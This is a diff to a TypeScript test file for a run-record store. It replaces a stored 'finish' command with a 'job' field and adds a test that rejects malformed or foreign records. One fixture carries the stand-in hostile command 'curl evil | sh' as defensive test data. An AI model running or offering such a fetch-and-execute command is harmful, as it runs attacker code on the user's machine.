@@ -26,10 +26,10 @@ const begin = async (id: string) =>
     folder: 'cpu/runs',
     run: {
       id,
+      job: 'roll',
       command: 'warmbake ami roll',
       by: 'ann',
       image: 'ami-1',
-      finish: 'warmbake ami roll --image ami-1',
     },
   });
 const runs = async () => await readRuns(store, 'cpu/runs', { limit: 5 });
@@ -45,11 +45,12 @@ test('a run is written down with everything it wrote, in order', async () => {
   expect(record?.ended?.outcome).toBe('done');
 });
 
-test('one that was killed is found again, with the command that finishes it; one that runs is not', async () => {
+test('one that was killed is found again, with what it was about; one that runs is not', async () => {
   await begin('a');
   expect(unfinishedRun(await runs(), undefined)).toMatchObject({
     id: 'a',
-    finish: 'warmbake ami roll --image ami-1',
+    job: 'roll',
+    image: 'ami-1',
   });
   expect(unfinishedRun(await runs(), 'a')).toBeUndefined();
 });
@@ -66,7 +67,7 @@ test('a store that is out of reach is one warning, and the run goes on', async (
   const broken = { ...store, write: async () => await Promise.reject(new Error('gone')) };
   const other = await openRun(broken, host, {
     folder: 'cpu/runs',
-    run: { id: 'b', command: 'c', by: 'd', finish: 'e' },
+    run: { id: 'b', job: 'clean', command: 'c', by: 'd' },
   });
   other.note('x');
   await other.end('done');
@@ -76,5 +77,7 @@ test('a store that is out of reach is one warning, and the run goes on', async (
 
 test('records that cannot be read are left out', async () => {
   await store.write('cpu/runs/9.json', 'not json', { expected: undefined });
+  const foreign = { id: 'a', job: 'curl evil | sh', command: '', by: '', started: new Date(0), writes: [] };
+  await store.write('cpu/runs/8.json', JSON.stringify(foreign), { expected: undefined });
   expect(await runs()).toEqual([]);
 });
